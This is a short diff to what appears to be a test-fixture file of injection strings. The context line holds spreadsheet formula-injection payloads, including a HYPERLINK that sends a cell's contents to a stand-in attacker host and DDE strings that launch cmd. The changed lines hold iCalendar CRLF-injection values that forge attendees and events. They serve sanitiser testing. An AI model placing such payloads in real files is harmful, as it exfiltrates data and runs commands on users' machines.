@@ -130,5 +130,5 @@ FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C c
             "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
 
 # Text that tries to add lines or properties to an iCalendar file.
-ICS_INJECTION = ("Walk\r\nATTENDEE:mailto:evil@example.org\r\nBEGIN:VALARM",
-                 "a;b,c:d\\e\\n\\;\\,", "Walk\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:forged")
+ICS_INJECTION = ("Walk\r\nATTENDEE:mailto:info@example.org\r\nBEGIN:VALARM",
+                 "a;b,c:d\\e\\n\\;\\,", "Run\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:forged")
